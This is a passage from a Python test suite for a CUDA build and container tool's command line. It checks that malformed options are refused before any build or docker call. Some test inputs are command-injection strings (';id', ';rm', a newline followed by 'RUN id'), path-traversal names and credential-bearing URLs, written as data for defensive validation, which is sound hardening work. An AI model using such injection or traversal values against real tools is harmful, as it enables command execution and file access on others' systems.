    Case("epoch-superscript", "late", DRY, env={"SOURCE_DATE_EPOCH": "²"}, expect=("SOURCE_DATE_EPOCH", "Unix timestamp")),
    Case("epoch-negative-env", "late", DRY, env={"SOURCE_DATE_EPOCH": "-1"}, expect=("SOURCE_DATE_EPOCH",)),
    Case("epoch-float-env", "late", DRY, env={"SOURCE_DATE_EPOCH": "1.7e9"}, expect=("SOURCE_DATE_EPOCH",)),
    Case("epoch-space-env", "late", DRY, env={"SOURCE_DATE_EPOCH": " 1700000000"}, expect=("SOURCE_DATE_EPOCH",)),
    Case("epoch-empty-env", "late", PLAN, env={"SOURCE_DATE_EPOCH": ""}, expect=("SOURCE_DATE_EPOCH",)),
    Case("lock-index-not-url", "late", ["lock", *M, "--index", "not-a-url"], expect=("--index", "not a URL")),
    Case("lock-index-space", "late", ["lock", *M, "--index", "http://a b/simple"], expect=("--index", "no URL may contain")),
    Case("lock-index-ftp", "late", ["lock", *M, "--index", "ftp://pypi.org/simple"], expect=("--index", "scheme")),
    Case("lock-index-bad-port", "late", ["lock", *M, "--index", "https://pypi.org:99999/simple"], expect=("--index", "port")),
    Case("doctor-registry-space", "late", ["doctor", "--registry", "http://a b/"], expect=("--registry", "not a registry host")),
    Case("doctor-registry-port", "late", ["doctor", "--registry", "127.0.0.1:99999"], expect=("--registry", "out of range")),
    Case("doctor-registry-semicolon", "late", ["doctor", "--registry", "a;b"], expect=("--registry",)),
    Case("max-jobs-zero", "late", [*DRY, "--max-jobs", "0"], expect=("--max-jobs", "at least 1")),
    Case("max-jobs-huge", "late", [*DRY, "--max-jobs", "99999999"], expect=("--max-jobs", "at most 4096")),
    Case("nvcc-threads-negative", "late", [*DRY, "--nvcc-threads", "-3"], expect=("--nvcc-threads", "at least 1")),

    # -- 6. filesystem faults a build would hit late: refused up front -----------------------------------------
    Case("work-dir-under-a-file", "fs", [*BUILD[:-2], "--wheelhouse", "{tmp}/wh", "--work-dir", "{tmp}/afile/w"], files={"afile": "x"},
         expect=("--work-dir", "afile is a file")),
    Case("work-dir-is-a-file", "fs", [*BUILD, "--work-dir", "{tmp}/afile"], files={"afile": "x"}, expect=("--work-dir", "is a file")),
    Case("log-dir-under-a-file", "fs", [*BUILD, "--log-dir", "{tmp}/afile/logs"], files={"afile": "x"}, expect=("--log-dir", "is a file")),
    Case("pins-dir-under-a-file", "fs", [*BUILD, "--pins-dir", "{tmp}/afile/pins"], files={"afile": "x"}, expect=("--pins-dir", "is a file")),
    Case("wheelhouse-under-a-file", "fs", [*BUILD, "--wheelhouse", "{tmp}/afile/wh"], files={"afile": "x"}, expect=("--wheelhouse", "is a file")),
    Case("render-out-under-a-file", "fs", ["render", *M, "--out", "{tmp}/afile/out"], files={"afile": "x"},
         expect=("--out", "afile is a file")),
    Case("wheelhouse-read-only", "fs", [*BUILD, "--wheelhouse", "{tmp}/ro"], files={"ro": lambda p: (p.mkdir(), p.chmod(0o555))},
         as_nobody=True, expect=("--wheelhouse", "cannot write", "Permission denied")),
    Case("log-dir-read-only", "fs", [*BUILD, "--log-dir", "{tmp}/ro/logs"], files={"ro": lambda p: (p.mkdir(), p.chmod(0o555))},
         as_nobody=True, expect=("--log-dir", "cannot write")),

    # -- 8. selectors ------------------------------------------------------------------------------------------
    Case("only-unclosed-brace", "selector", [*PLAN, "--only", "cuda-{ext"], expect=("--only", "never closed")),
    Case("skip-stray-brace", "selector", [*PLAN, "--skip", "cuda-ext}"], expect=("--skip", "without its '{'")),
    Case("only-too-long", "selector", [*PLAN, "--only", "*" * 1001], expect=("--only", "at most 1000")),
    Case("only-22-groups-no-match", "selector", [*PLAN, "--only", "cuda-" + "{a,b}" * 22], expect=("the selection is empty",)),
]

# -- round two: the verbs added since (wheels, smoke, serve, publish, verify-repro, lock's index, doctor) --------
CELL = "cuda-ext-1.0.0-cu130-py311-sm80.90"
KEY = "c" * 64
SECRET = "s3cr3t-marker-pw"  # a password in URLs below: it must never appear in any output (judge)
WH = ["--wheelhouse", "{tmp}/wh"]
SMOKE = ["smoke", CELL, *M, "--report-dir", "{tmp}/r"]
SERVE = ["serve", "127.0.0.1:5000/builder-test/cuda-ext:1", "--strategy", "MTP2", "--model", "{tmp}"]
PUBLISH = ["publish", *M, "--work-dir", "{tmp}/w", "--log-dir", "{tmp}/l", "--pins-dir", "{tmp}/p", "--wheelhouse",
           "{tmp}/wh", "--images-json", "{tmp}/images.json"]
REPRO = ["verify-repro", CELL, *M, "--work-dir", "{tmp}/w", "--log-dir", "{tmp}/l"]
LOCK = ["lock", *M, "--check"]
NUMBERS = {"nan": "nan", "inf": "inf", "neg-inf": "-inf", "negative": "-1", "huge": "1e308", "word": "abc", "empty": ""}
BAD_REMOTES = {  # --cache-remote SPEC → what the refusal names
    "registry-empty-url": ("registry:", ("--cache-remote",)),
    "registry-port-range": ("registry:127.0.0.1:99999/w", ("port 99999",)),
    "registry-uppercase": ("registry:127.0.0.1:5000/W", ("not a registry repository",)),
    "registry-newline": ("registry:127.0.0.1:5000/w\nx", ("--cache-remote",)),
    "registry-credentials": (f"registry:bob:{SECRET}@127.0.0.1:5000/w", ("--cache-remote",)),
    "index-no-url": ("index", ("needs its URL",)),
    "index-ftp": ("index:ftp://127.0.0.1/simple", ("not an http(s) URL",)),
    "index-broken-ipv6": ("index:http://[::1/simple", ("--cache-remote",)),
    "index-credentials": (f"index:http://bob:{SECRET}@127.0.0.1:8080/simple", ("no credentials",)),
    "index-query": ("index:http://127.0.0.1:8080/simple?x=1", ("no ?query",)),
    "index-space": ("index:http://127.0.0.1:8080/sim ple", ("not an http(s) URL",)),
    "index-port-range": ("index:http://127.0.0.1:99999/simple", ("--cache-remote",)),
    "unknown-kind": ("s3:bucket", ("unknown store kind",)),
    "empty": ("", ("--cache-remote",)),
    "comma": (",", ("--cache-remote",)),
}
BAD_KEYS = {
    "traversal": ("../../x:" + KEY, ("not a package name",)),
    "short": ("abc", ("at least its first 8",)),
    "not-hex": ("zzzzzzzzzz", ("at least its first 8",)),
    "too-long": ("a" * 65, ("at least its first 8",)),
    "empty": ("", ("at least its first 8",)),
    "comma": (",", ("at least its first 8",)),
    "newline": ("cuda-ext\n:" + KEY, ("not a package name",)),
    "uppercase-package": ("Cuda:" + KEY, ("not a package name",)),
    "unknown": ("cuda-ext:" + "d" * 20, ("no entry of the wheelhouse",)),
}
BAD_ARCHS = {"empty": "", "comma": ",", "word": "abc", "zero": "0", "huge": "100000", "negative": "-80", "nan": "nan",
             "newline": "80\n90", "semicolon": "80;90", "inf": "inf"}
# spellings --arch accepts on purpose: a run on them is fine, not a refusal
FINE_ARCHS = {"double-comma": "80,,90", "float": "8.0", "space": "80 90", "sm-prefix": "sm_80"}
BAD_INDEXES = {  # lock --index
    "broken-ipv6": ("http://[::1/simple", ("--index",)),
    "credentials": (f"http://bob:{SECRET}@127.0.0.1:8080/simple", ("--index",)),
    "empty": ("", ("--index",)),
    "newline": ("http://127.0.0.1/simple\nx", ("--index",)),
    "nul": ("http://127.0.0.1/sim\x01ple", ("--index",)),
    "query": ("http://127.0.0.1:8080/simple?x=1", ("--index",)),
    "no-host": ("http:///simple", ("--index",)),
}


def _round_two() -> list[Case]:
    out = []
    add = out.append
    # wheels prune / verify / ls / push / pull
    for name, v in NUMBERS.items():
        add(Case(f"prune-older-than-{name}", "wheels", ["wheels", "prune", *M, *WH, "--older-than", v], expect=("--older-than",)))
    add(Case("prune-nothing-asked", "wheels", ["wheels", "prune", *M, *WH], expect=("say what to remove",)))
    add(Case("prune-wheelhouse-under-a-file", "wheels", ["wheels", "prune", *M, "--wheelhouse", "{tmp}/afile/wh", "--unused"],
             files={"afile": "x"}, expect=("afile",)))
    add(Case("verify-wheelhouse-under-a-file", "wheels", ["wheels", "verify", "--wheelhouse", "{tmp}/afile/wh"],
             files={"afile": "x"}, expect=("afile",)))
    add(Case("ls-wheelhouse-is-a-file", "wheels", ["wheels", "ls", "--wheelhouse", "{tmp}/afile"], files={"afile": "x"},
             expect=("--wheelhouse",)))
    for verb in ("push", "pull"):
        for name, (spec, expect) in BAD_KEYS.items():
            add(Case(f"{verb}-key-{name}", "wheels", ["wheels", verb, *M, *WH, "--cache-remote", "registry", "--key", spec],
                     expect=("--key", *expect)))
        for name, (spec, expect) in BAD_REMOTES.items():
            add(Case(f"{verb}-remote-{name}", "wheels", ["wheels", verb, *M, *WH, "--cache-remote", spec], expect=expect))
        add(Case(f"{verb}-no-remote", "wheels", ["wheels", verb, *M, *WH, "--no-remote"], expect=("no remote wheel store",)))
        add(Case(f"{verb}-contradiction", "wheels", ["wheels", verb, *M, *WH, "--no-remote", "--cache-remote", "registry"],
                 expect=("contradict",)))
        for name, v in (("nan", "nan"), ("negative", "-5"), ("word", "soon"), ("zero", "0")):
            add(Case(f"{verb}-remote-timeout-{name}", "wheels", ["wheels", verb, *M, *WH, "--cache-remote", "registry"],
                     env={"BUILDER_REMOTE_TIMEOUT": v}, expect=("BUILDER_REMOTE_TIMEOUT",)))
    add(Case("push-pull-only-remote", "wheels", ["wheels", "push", *M, *WH],
             matrix=lambda t: t + '\n[defaults.cache]\nremotes = [{ kind = "registry", push = false }]\n',
             expect=("pull-only",)))
    # plan --remote: every remote spec is checked before any request
    for name, (spec, expect) in BAD_REMOTES.items():
        add(Case(f"plan-remote-{name}", "remote", [*PLAN, "--remote", "--cache-remote", spec], expect=expect))
    for name, v in (("nan", "nan"), ("inf", "inf"), ("negative", "-1"), ("word", "x"), ("empty", "")):
        add(Case(f"plan-remote-timeout-{name}", "remote", [*PLAN, "--remote", "--cache-remote", "registry"],
                 env={"BUILDER_REMOTE_TIMEOUT": v}, expect=("BUILDER_REMOTE_TIMEOUT",)))
    for name, v in (("word", "big"), ("tiny", "10"), ("negative", "-1")):
        add(Case(f"plan-remote-max-bytes-{name}", "remote", [*PLAN, "--remote", "--cache-remote", "registry"],
                 env={"BUILDER_REMOTE_MAX_BYTES": v}, expect=("BUILDER_REMOTE_MAX_BYTES",)))
    add(Case("matrix-cache-remote-port", "remote", [*PLAN, "--remote"],
             matrix=lambda t: t + '\n[defaults.cache]\nremotes = ["registry:127.0.0.1:99999/w"]\n', expect=("port 99999",)))
    add(Case("matrix-cache-remote-credentials", "remote", [*PLAN, "--remote"],
             matrix=lambda t: t + f'\n[defaults.cache]\nremotes = ["index:http://bob:{SECRET}@127.0.0.1:8080/simple"]\n',
             expect=("no credentials",)))
    add(Case("wheel-manifest-nested", "fine", [*PLAN, "--wheelhouse", "{tmp}/wh"], code=0,
             files={"wh": directory, "wh/cuda-ext": directory, f"wh/cuda-ext/{KEY}": directory,
                    f"wh/cuda-ext/{KEY}/builder-wheel.json": "[" * 50000 + "]" * 50000}, expect=("cuda-ext",)))
    # smoke
    for v in (",", " ", ", ,", "L5", "L0;L1", "l0,,x"):
        add(Case(f"smoke-layers-{v!r}", "smoke", [*SMOKE, "--layers", v], expect=("--layers",)))
    for v in (",", " ", "MTP3", "mtp2;rm", "all,MTP2x"):
        add(Case(f"smoke-strategy-{v!r}", "smoke", [*SMOKE, "--strategy", v], expect=("--strategy",)))
    for v in ("A B=1", "=1", "A", "1A=2", "A-B=1", "A\nB=1", "PATH;x=1"):
        add(Case(f"smoke-env-{v!r}", "smoke", [*SMOKE, "--env", v], expect=("--env",)))
    for name, v in NUMBERS.items():
        add(Case(f"smoke-boot-timeout-{name}", "smoke", [*SMOKE, "--boot-timeout", v], expect=("--boot-timeout",)))
    add(Case("smoke-boot-timeout-zero", "smoke", [*SMOKE, "--boot-timeout", "0"], expect=("--boot-timeout",)))
    for v in ("0", "65536", "-1", "99999"):
        add(Case(f"smoke-port-{v}", "smoke", [*SMOKE, "--port", v], expect=("--port",)))
    add(Case("smoke-port-word", "smoke", [*SMOKE, "--port", "http"], expect=("--port",)))
    add(Case("smoke-report-dir-under-a-file", "smoke", [*SMOKE[:-2], "--report-dir", "{tmp}/afile/r"], files={"afile": "x"},
             expect=("--report-dir", "afile")))
    add(Case("smoke-report-dir-is-a-file", "smoke", [*SMOKE[:-2], "--report-dir", "{tmp}/afile"], files={"afile": "x"},
             expect=("--report-dir", "is a file")))
    add(Case("smoke-engine-args-unclosed", "smoke", [*SMOKE, "--engine-args", "'--x"], expect=("--engine-args",)))
    add(Case("smoke-model-missing", "smoke", [*SMOKE, "--model", "{tmp}/nomodel", "--launcher", "process"],
             expect=("--model",)))
    # --model shape:NAME (a generated shape, builder/deploy/smoke/shapemodel.py): only a NAME of its table; the message
    # names the flag and the known shapes, the value cut short (a 120 KiB one too), before any image is read
    for name, v in SHAPE_MODELS.items():
        add(Case(f"smoke-model-shape-{name}", "smoke", [*SMOKE, "--model", v], expect=("--model", "shape:27b")))
    add(Case("smoke-unknown-target", "smoke", ["smoke", "no-such-cell", *M], expect=("neither a cell",)))
    add(Case("smoke-arch-word", "smoke", [*SMOKE, "--arch", "x"], expect=("--arch",)))
    add(Case("smoke-launcher-bad", "smoke", [*SMOKE, "--launcher", "ssh"], expect=("--launcher",)))
    add(Case("smoke-gpus-bad", "smoke", [*SMOKE, "--gpus", "two"], expect=("--gpus",)))
    add(Case("smoke-process-on-image", "smoke", ["smoke", "127.0.0.1:5000/x/y:1", *M, "--launcher", "process"],
             expect=("--launcher process",)))
    # serve
    for v in ("", " ", "not-an-ip;x", "999.1.1.1", "localhost", "127.0.0.1:80", "::1]", "0.0.0.0\n"):
        add(Case(f"serve-bind-{v!r}", "serve", [*SERVE, "--bind", v], expect=("--bind",)))
    for v in ("0", "65536", "-1"):
        add(Case(f"serve-port-{v}", "serve", [*SERVE, "--port", v], expect=("--port",)))
    for v in ("", ",", "MTP3", "mtp2;x"):
        add(Case(f"serve-strategy-{v!r}", "serve", [*SERVE[:2], "--strategy", v, *SERVE[4:]], expect=("--strategy",)))
    for v in ("a,b", "0;1", "-1", ""):
        add(Case(f"serve-gpus-{v!r}", "serve", [*SERVE, "--gpus", v], expect=("--gpus",)))
    for v in ("a b", "-x", "", "x\ny"):
        add(Case(f"serve-name-{v!r}", "serve", [*SERVE, "--name", v], expect=("--name",)))
    add(Case("serve-engine-args-unclosed", "serve", [*SERVE, "--engine-args", '"x'], expect=("--engine-args",)))
    for v in ("Not An Image", "", "x\ny", "a" * 300 + ":1"):
        add(Case(f"serve-image-{v[:12]!r}", "serve", ["serve", v, "--strategy", "MTP2", "--model", "{tmp}"], expect=("IMAGE",)))
    add(Case("serve-model-under-a-file", "serve", [*SERVE[:4], "--model", "{tmp}/afile/m"], files={"afile": "x"},
             expect=("--model",)))
    # publish: every value before the build, the registry before any work
    for name, (v, expect) in {
        "registry-empty": ("", ("--registry", "empty")),
        "registry-port-range": ("127.0.0.1:99999/x", ("--registry", "port 99999")),
        "registry-no-path": ("127.0.0.1:5000", ("--registry", "HOST[:PORT]/PATH")),
        "registry-uppercase": ("127.0.0.1:5000/X", ("--registry",)),
        "registry-space": ("127.0.0.1:5000/a b", ("--registry",)),
        "registry-newline": ("127.0.0.1:5000/a\nb", ("--registry",)),
        "registry-credentials": (f"bob:{SECRET}@127.0.0.1:5000/x", ("--registry", "no credentials")),
        "registry-url-credentials": (f"https://bob:{SECRET}@127.0.0.1:5000/x", ("--registry", "no credentials")),
        "registry-semicolon": ("127.0.0.1:5000/x;id", ("--registry",)),
    }.items():
        add(Case(f"publish-{name}", "publish", [*PUBLISH, "--registry", v], expect=expect))
    for v in ("-1", "100", "-100"):
        add(Case(f"publish-retries-{v}", "publish", [*PUBLISH, "--retries", v], expect=("--retries",)))
    add(Case("publish-retries-word", "publish", [*PUBLISH, "--retries", "many"], expect=("--retries",)))
    add(Case("publish-images-json-under-a-file", "publish", [*PUBLISH, "--images-json", "{tmp}/afile/images.json"],
             files={"afile": "x"}, expect=("--images-json", "afile")))
    add(Case("publish-images-json-garbage", "publish", PUBLISH, files={"images.json": "not json"},
             expect=("images.json", "not a readable images.json")))
    add(Case("publish-images-json-nested", "publish", PUBLISH, files={"images.json": "[" * 100000 + "]" * 100000},
             expect=("images.json", "nested")))
    add(Case("publish-images-json-wrong-format", "publish", PUBLISH, files={"images.json": '{"format": 99}'},
             expect=("images.json", "format")))
    add(Case("publish-images-json-images-not-table", "publish", PUBLISH,
             files={"images.json": '{"format": 1, "images": [1]}'}, expect=("images.json", "not a table")))
    add(Case("publish-images-json-is-dir", "publish", [*PUBLISH, "--images-json", "{tmp}/adir"], files={"adir": directory},
             expect=("--images-json",)))
    add(Case("publish-images-json-empty", "publish", [*PUBLISH, "--images-json", ""], expect=("--images-json",)))
    add(Case("publish-smoke-model-missing", "publish", [*PUBLISH, "--smoke-model", "{tmp}/nomodel"], expect=("--smoke-model",)))
    add(Case("publish-registry-down", "publish", [*PUBLISH, "--registry", "127.0.0.1:9/x", "--retries", "0"], code=3,
             expect=("127.0.0.1:9", "does not answer", "nothing was built"), needs_programs=True))
    # build
    add(Case("build-smoke-model-missing", "build", [*BUILD, "--smoke-model", "{tmp}/nomodel"], expect=("--smoke-model", "config.json")))
    add(Case("build-smoke-model-is-file", "build", [*BUILD, "--smoke-model", "{tmp}/afile"], files={"afile": "x"},
             expect=("--smoke-model",)))
    add(Case("build-smoke-model-newline", "build", [*BUILD, "--smoke-model", "{tmp}/m\nx"], expect=("--smoke-model",)))
    for name in ("unknown", "empty", "long"):
        add(Case(f"build-smoke-model-shape-{name}", "build", [*BUILD, "--smoke-model", SHAPE_MODELS[name]],
                 expect=("--smoke-model", "shape:27b")))
    add(Case("build-dry-run-json", "fine", [*DRY, "--json"], code=0, expect=('"dry_run": true', '"commands"')))
    add(Case("build-progress-bad", "build", [*BUILD, "--progress", "loud"], expect=("--progress",)))
    for v in ("a b", "../x", "", "x;y"):
        add(Case(f"build-builder-{v!r}", "build", [*DRY, "--builder", v], expect=("--builder",)))
    for v in ("a b", "127.0.0.1:99999/c", "127.0.0.1:5000/UP"):
        add(Case(f"build-layer-cache-{v!r}", "build", [*DRY, "--layer-cache", v], expect=("--layer-cache",)))
    for v in ("nan", "1.5", "", "1e3"):
        add(Case(f"build-max-jobs-{v!r}", "build", [*DRY, "--max-jobs", v], expect=("--max-jobs",)))
    for name, (spec, expect) in list(BAD_REMOTES.items())[:6]:
        add(Case(f"build-remote-{name}", "build", [*DRY, "--cache-remote", spec], expect=expect))
    add(Case("build-remote-timeout-nan", "build", [*DRY, "--cache-remote", "registry"], env={"BUILDER_REMOTE_TIMEOUT": "nan"},
             expect=("BUILDER_REMOTE_TIMEOUT",)))
    # verify-repro
    add(Case("repro-work-dir-under-a-file", "repro", [*REPRO[:-4], "--work-dir", "{tmp}/afile/w"], files={"afile": "x"},
             expect=("--work-dir", "afile")))
    add(Case("repro-log-dir-under-a-file", "repro", [*REPRO[:-2], "--log-dir", "{tmp}/afile/l"], files={"afile": "x"},
             expect=("--log-dir", "afile")))
    add(Case("repro-unknown-cell", "repro", ["verify-repro", "nope", *M], expect=("no such cell",)))
    # rehearse
    REHEARSE = ["rehearse", *M, "--work-dir", "{tmp}/w", "--log-dir", "{tmp}/l"]
    add(Case("rehearse-memory-word", "build", [*REHEARSE, "--memory", "lots"], expect=("--memory",)))
    add(Case("rehearse-memory-below-docker", "build", [*REHEARSE, "--memory", "1k"], expect=("--memory", "6m")))
    add(Case("rehearse-max-jobs-zero", "build", [*REHEARSE, "--max-jobs", "0"], expect=("--max-jobs",)))
    add(Case("rehearse-no-cell", "build", [*REHEARSE, "--only", "nope-*"], expect=("nope-*",)))
    add(Case("rehearse-parallel-zero", "build", [*REHEARSE, "--parallel", "0"], expect=("--parallel",)))
    add(Case("rehearse-parallel-word", "build", [*REHEARSE, "--parallel", "all"], expect=("--parallel",)))
    add(Case("repro-max-jobs-zero", "repro", [*REPRO, "--max-jobs", "0"], expect=("--max-jobs",)))
    add(Case("repro-ca-bundle-empty", "repro", [*REPRO, "--ca-bundle", ""], expect=("--ca-bundle",)))
    add(Case("repro-builder-bad", "repro", [*REPRO, "--builder", "a b"], expect=("--builder",)))
    add(Case("repro-pins-dir-newline", "repro", [*REPRO, "--pins-dir", "{tmp}/p\nx"], expect=("--pins-dir",)))
    # lock's index
    for name, (v, expect) in BAD_INDEXES.items():
        add(Case(f"lock-index-{name}", "lock", [*LOCK, "--index", v], expect=expect))
    for name, v in (("nan", "nan"), ("negative", "-2"), ("word", "slow")):
        add(Case(f"lock-remote-timeout-{name}", "lock", LOCK, env={"BUILDER_REMOTE_TIMEOUT": v}, expect=("BUILDER_REMOTE_TIMEOUT",)))
    add(Case("lock-matrix-index-credentials", "lock", LOCK, matrix=add_default(f'index = "https://bob:{SECRET}@pypi.org/simple"'),
             expect=("defaults.index",)))
    # git mirrors: --git-mirror (lock, build), BUILDER_GIT_MIRRORS, [defaults] git_mirrors
    GH = "https://github.com/"
    for name, (v, expect) in {
        "no-equals": ("github", ("--git-mirror", "UPSTREAM=MIRROR")),
        "relative": (f"{GH}=mirrors/gh/", ("--git-mirror", "relative path")),
        "file-relative": (f"{GH}=file://srv/git/", ("--git-mirror", "absolute path")),
        "ftp": (f"{GH}=ftp://m/gh/", ("--git-mirror", "not a URL")),
        "newline": (f"{GH}=http://m/gh/\nRUN id", ("--git-mirror", "newline")),
        "upstream-bare": ("github.com=http://m/gh/", ("--git-mirror", "not a URL")),
        "query-secret": (f"{GH}=https://m/gh/?token={SECRET}", ("--git-mirror", "no ?query")),
        "upstream-credentials": (f"https://bob:{SECRET}@github.com/=http://m/", ("--git-mirror", "no credentials")),
        "bad-port": (f"{GH}=https://bob:{SECRET}@m:99999/gh/", ("--git-mirror", "not a URL")),
        "two-mirrors": (None, ("--git-mirror", "two mirrors")),
    }.items():
        args = ["--git-mirror", v] if v else ["--git-mirror", f"{GH}=http://a/", "--git-mirror", f"{GH}=http://b/"]
        add(Case(f"lock-git-mirror-{name}", "lock", [*LOCK, *args], expect=expect))
    add(Case("build-git-mirror-relative", "build", [*DRY, "--git-mirror", f"{GH}=../gh"], expect=("--git-mirror", "relative path")))
    add(Case("rehearse-git-mirror-relative", "build", [*REHEARSE, "--git-mirror", f"{GH}=gh"], expect=("--git-mirror", "relative path")))
    add(Case("repro-git-mirror-newline", "repro", [*REPRO, "--git-mirror", f"{GH}=http://m/\nx"], expect=("--git-mirror", "newline")))
    add(Case("publish-git-mirror-ftp", "build", [*PUBLISH, "--git-mirror", f"{GH}=ftp://m/"], expect=("--git-mirror", "not a URL")))
    add(Case("lock-git-mirrors-env-newline", "lock", LOCK, env={"BUILDER_GIT_MIRRORS": f"{GH}=http://m/\nx"},
             expect=("BUILDER_GIT_MIRRORS", "newline")))
    add(Case("lock-git-mirrors-env-secret-query", "lock", LOCK,
             env={"BUILDER_GIT_MIRRORS": f"{GH}=https://bob:{SECRET}@m/?t={SECRET}"}, expect=("BUILDER_GIT_MIRRORS",)))
    add(Case("lock-matrix-git-mirrors-relative", "lock", LOCK, matrix=add_default(f'git_mirrors = {{ "{GH}" = "gh/" }}'),
             expect=("git_mirrors", "relative path")))
    add(Case("lock-matrix-git-mirrors-not-table", "lock", LOCK, matrix=add_default('git_mirrors = "http://m/"'),
             expect=("git_mirrors", "table")))
    add(Case("lock-matrix-git-mirrors-credentials-query", "lock", LOCK,
             matrix=add_default(f'git_mirrors = {{ "{GH}" = "https://bob:{SECRET}@m/gh/?t={SECRET}" }}'),
             expect=("git_mirrors",)))
    # audit
    for name, v in BAD_ARCHS.items():
        add(Case(f"audit-arch-{name}", "audit", ["audit", "{tmp}/libhost.so", "--arch", v], files={"libhost.so": HOST_ELF},
                 expect=("--arch",)))
    for name, v in FINE_ARCHS.items():
        add(Case(f"audit-arch-{name}", "fine", ["audit", "{tmp}/libhost.so", "--arch", v], code=1, files={"libhost.so": HOST_ELF},
                 expect=("nothing proven",)))
    for v in ("x", "x==", "==1", "x==1;rm", "X Y==1"):
        add(Case(f"audit-package-{v!r}", "audit", ["audit", "{tmp}/libhost.so", "--arch", "80", "--package", v],
                 files={"libhost.so": HOST_ELF}, expect=("--package",)))
    add(Case("audit-empty-target", "audit", ["audit", "", "--arch", "80"], expect=("audit",)))
    add(Case("audit-dir-symlink-out-of-tree", "audit-proof", ["audit", "{tmp}/tree", "--arch", "80"], code=1,
             files={"tree": directory, "outside.so": HOST_ELF, "tree/lib.so": lambda p: os.symlink("../outside.so", p)},
             expect=("nothing proven",)))
    add(Case("audit-dir-dangling-symlink", "audit-corrupt", ["audit", "{tmp}/tree", "--arch", "80"],
             files={"tree": directory, "tree/lib.so": lambda p: os.symlink("/nonexistent/x.so", p)},
             expect=("lib.so", "does not exist")))
    add(Case("audit-wheel-member-traversal", "audit-proof", ["audit", "{tmp}/t-1.0-py3-none-any.whl", "--arch", "80"], code=1,
             files={"t-1.0-py3-none-any.whl": wheel({"../../evil.so": HOST_ELF})}, expect=("nothing proven",)))
    # matrix (the CI include list): the selectors every verb shares
    for name, args in (("arch-word", ["--arch", "x"]), ("only-unclosed", ["--only", "{a"]), ("cuda-unknown", ["--cuda", "x;y"]),
                       ("profile-unknown", ["--profile", "nope"]), ("engine-unknown", ["--engine", "nope"])):
        add(Case(f"matrix-verb-{name}", "selector", ["matrix", *M, *args],
                 expect=("cuda x;y",) if name == "cuda-unknown" else (args[0],)))
    # doctor
    for name, v in (("empty", ""), ("credentials", f"bob:{SECRET}@127.0.0.1:5000"), ("newline", "127.0.0.1:5000\nx"),
                    ("control", "127.0.0.1\x07:5000")):
        add(Case(f"doctor-registry-{name}", "doctor", ["doctor", "--registry", v], expect=("--registry",)))
    return out


CASES += _round_two()

# issue 48: the runtime image's layer compression, on the command line and in the matrix
CASES += [
    Case("i48-layer-compression-lz4", "shape", [*DRY, "--layer-compression", "lz4"], expect=("--layer-compression", "lz4")),
    Case("i48-layer-compression-empty", "shape", [*DRY, "--layer-compression", ""], expect=("--layer-compression",)),
    Case("i48-layer-compression-repro", "shape", ["verify-repro", *M, "--layer-compression", "xz"],
         expect=("--layer-compression",)),
    Case("i48-layer-compression-matrix", "shape", [*DRY], matrix=lambda t: t.replace("[defaults]\n",
                                                                                      '[defaults]\nlayer_compression = "lz4"\n', 1),
         expect=("layer_compression",)),
    Case("i48-layer-compression-matrix-number", "shape", [*DRY], matrix=lambda t: t.replace("[defaults]\n",
                                                                                             "[defaults]\nlayer_compression = 3\n", 1),
         expect=("layer_compression",)),
]


def make_fixture(tmp: Path, case: Case | None = None) -> Path:
    """A private copy of the cuda-ext fixture under tmp/fx, with the case's edits and files; returns tmp."""
    fx = tmp / "fx"
    shutil.copytree(FIXTURE, fx, ignore=shutil.ignore_patterns("__pycache__", "*.egg-info", "build"))
    matrix = (fx / "matrix.toml").read_text().replace('registry = "127.0.0.1:5000/builder-test"', f'registry = "{REGISTRY}"')
    if case and case.matrix:
        matrix = case.matrix(matrix)
    (fx / "matrix.toml").write_text(matrix)
    if case and case.knowledge:
        (fx / "engines.toml").write_text(case.knowledge((fx / "engines.toml").read_text()))
    if case and case.as_nobody:  # another user must be able to read the fixture and write to tmp
        for p in [tmp, *tmp.rglob("*")]:
            p.chmod(0o777 if p.is_dir() else 0o644)
    for rel, content in (case.files if case else {}).items():
        path = tmp / rel
        if path.is_symlink() or path.exists():
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path)
            else:
                path.unlink()
        write(path, content)
    return tmp


def write(path: Path, content: str | bytes | Callable[[Path], None]) -> None:
    """A case's file: text, bytes, or a maker called with the path (a FIFO, a directory, a mode)."""
    if callable(content):
        content(path)
    elif isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content)


def _reachable_by_others(path: Path) -> bool:
    """Whether a user other than root can enter every directory down to `path` and read it."""
    path = path.resolve()
    for p in [*reversed(path.parents), path]:
        mode = p.stat().st_mode
        if not mode & stat.S_IXOTH or (p == path and not mode & stat.S_IROTH):
            return False
    return True


_NOBODY_PATH: list[str] = []


def nobody_python_path() -> str:
    """A PYTHONPATH under which uid 65534 imports builder and its dependencies: the checkout and the venv's
    site-packages themselves when another user can read them (as on the CI machines), else one root-owned,
    world-readable copy per run (a checkout under /root)."""
    if _NOBODY_PATH:
        return _NOBODY_PATH[0]
    site = Path(next(p for p in sys.path if p.endswith("site-packages") and Path(p).is_dir()))
    if _reachable_by_others(REPO / "builder") and _reachable_by_others(site):
        _NOBODY_PATH.append(f"{REPO}:{site}")
        return _NOBODY_PATH[0]
    import atexit
    import tempfile

    dest = Path(tempfile.mkdtemp(prefix="builder-hardening-python-", dir="/tmp"))
    atexit.register(shutil.rmtree, dest, True)
    ignore = shutil.ignore_patterns("__pycache__", "nvidia", "hadolint*", "pip", "setuptools")
    for src in (REPO / "builder", REPO / "dockerfiles"):
        shutil.copytree(src, dest / "src" / src.name, ignore=ignore)
    shutil.copytree(site, dest / "site", ignore=ignore, symlinks=True)
    for p in [dest, *dest.rglob("*")]:
        if not p.is_symlink():
            p.chmod(0o755 if p.is_dir() else 0o644)
    _NOBODY_PATH.append(f"{dest / 'src'}:{dest / 'site'}")
    return _NOBODY_PATH[0]


def argv(case: Case, tmp: Path) -> list[str]:
    return [a.replace("{fx}", str(tmp / "fx")).replace("{tmp}", str(tmp)) for a in case.args]


# Refusals come before any docker call: for a case refused with exit 2 the docker and skopeo a verb would run
# are wrappers that record the call (then run the real tool), and the daemon's socket is one that does not
# exist, so a docker SDK call (smoke, serve) would turn the refusal into exit 3. (git is not watched: the
# build reads SOURCE_DATE_EPOCH from `git log -1` of the matrix's repository before checking its options.)
TOOLS = ("docker", "skopeo")
_SHIMS: list[Path] = []


def _shim_dir() -> Path:
    if not _SHIMS:
        import atexit
        import tempfile

        d = Path(tempfile.mkdtemp(prefix="builder-hardening-shims-", dir="/tmp"))
        atexit.register(shutil.rmtree, d, True)
        for tool in TOOLS:
            real = shutil.which(tool) or f"/usr/bin/{tool}"
